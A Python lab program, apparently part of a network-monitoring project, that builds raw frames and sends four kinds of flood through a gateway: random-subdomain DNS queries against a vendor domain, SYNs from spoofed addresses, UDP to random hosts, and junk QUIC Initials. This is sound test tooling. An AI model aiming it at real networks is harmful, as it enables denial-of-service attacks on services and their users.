"""Sends floods through the gateway, as ready-made frames; a child process in a client's namespace.

    python -m monitor.lab.programs.flood subdomains|syn|flows|quic INTERFACE MAC GATEWAY_MAC SOURCE TARGET --packets N
        [--rate R]

`subdomains` queries TARGET for random names below a vendor's domain. `syn` sends SYNs to TARGET from changing source
addresses and ports, and completes no handshake. `flows` sends one UDP datagram each to random addresses. `quic` sends
long headers of new connections without valid content. IPv4 only. The same arguments produce the same packets.
"""

import argparse
import random
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

BATCH: Final = 64
TCP: Final = 6
UDP: Final = 17
SEED: Final = 77
ETHERTYPE_IPV4: Final = b"\x08\x00"
NAME: Final = b"\x06tiktok\x03com\x00"


@dataclass(frozen=True)
class Road:
    """The packed addresses of sender and target."""

    ethernet: bytes
    source: bytes
    target: bytes


def subdomain(road: Road, chance: random.Random, number: int) -> bytes:
    label = b"%012x" % chance.getrandbits(48)
    question = bytes((len(label),)) + label + NAME + struct.pack(">HH", 1, 1)
    message = struct.pack(">HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + question
    return datagram(road, road.source, road.target, 1024 + number % 60_000, 53, message)


def syn(road: Road, chance: random.Random, number: int) -> bytes:
    """Returns one SYN from the client's network (RFC 9293 section 3.1)."""
    source = road.source[:3] + bytes((chance.randrange(100, 250),))
    ports = struct.pack(">HH", 1024 + number % 60_000, 443)
    head = ports + struct.pack(">IIBBHHH", chance.getrandbits(32), 0, 5 << 4, 0x02, 64_240, 0, 0)
    pseudo = source + road.target + struct.pack(">BBH", 0, TCP, len(head))
    total = checksum(pseudo + head)
    return road.ethernet + ipv4(source, road.target, TCP, len(head)) + head[:16] + total + head[18:]


def flow(road: Road, chance: random.Random, number: int) -> bytes:
    target = road.target[:1] + chance.getrandbits(24).to_bytes(3, "big")
    return datagram(road, road.source, target, 1024 + number % 60_000, 9_999, b"x" * 32)


def quic(road: Road, chance: random.Random, number: int) -> bytes:
    """Returns a version 1 Initial that cannot be decrypted (RFC 9000 section 17.2.2)."""
    connection = chance.randbytes(8)
    head = b"\xc3\x00\x00\x00\x01\x08" + connection + b"\x00\x00" + struct.pack(">H", 0x4000 | 1_180)
    return datagram(road, road.source, road.target, 1024 + number % 60_000, 443, head + chance.randbytes(1_180))


def datagram(road: Road, source: bytes, target: bytes, port: int, service: int, data: bytes) -> bytes:
    # A UDP checksum of zero means that there is no checksum (RFC 768).
    head = struct.pack(">HHHH", port, service, 8 + len(data), 0)
    return road.ethernet + ipv4(source, target, UDP, 8 + len(data)) + head + data


def ipv4(source: bytes, target: bytes, protocol: int, length: int) -> bytes:
    """Returns an IPv4 header without options (RFC 791 section 3.1)."""
    head = struct.pack(">BBHHHBB", 0x45, 0, 20 + length, 0, 0, 64, protocol)
    return head + checksum(head + bytes(2) + source + target) + source + target


def checksum(data: bytes) -> bytes:
    """Returns the internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack(">H", ~total & 0xFFFF)


KINDS: Final[dict[str, Callable[[Road, random.Random, int], bytes]]] = {
    "subdomains": subdomain,
    "syn": syn,
    "flows": flow,
    "quic": quic,
}


def send(interface: str, make: Callable[[int], bytes], packets: int, rate: int) -> None:
    """Sends the packets as fast as possible, or `rate` per second."""
    started = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((interface, 0))
        for number in range(packets):
            sender.send(make(number))
            if rate and number % BATCH == 0:
                time.sleep(max(0.0, started + number / rate - time.monotonic()))


def packed(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("interface")
    parser.add_argument("mac")
    parser.add_argument("gateway_mac")
    parser.add_argument("source")
    parser.add_argument("target")
    parser.add_argument("--packets", type=int, required=True)
    parser.add_argument("--rate", type=int, default=0)
    options = parser.parse_args()
    ethernet = packed(options.gateway_mac) + packed(options.mac) + ETHERTYPE_IPV4
    road = Road(ethernet, socket.inet_aton(options.source), socket.inet_aton(options.target))
    chance = random.Random(SEED)
    kind = KINDS[options.kind]
    send(options.interface, lambda number: kind(road, chance, number), options.packets, options.rate)


if __name__ == "__main__":
    main()
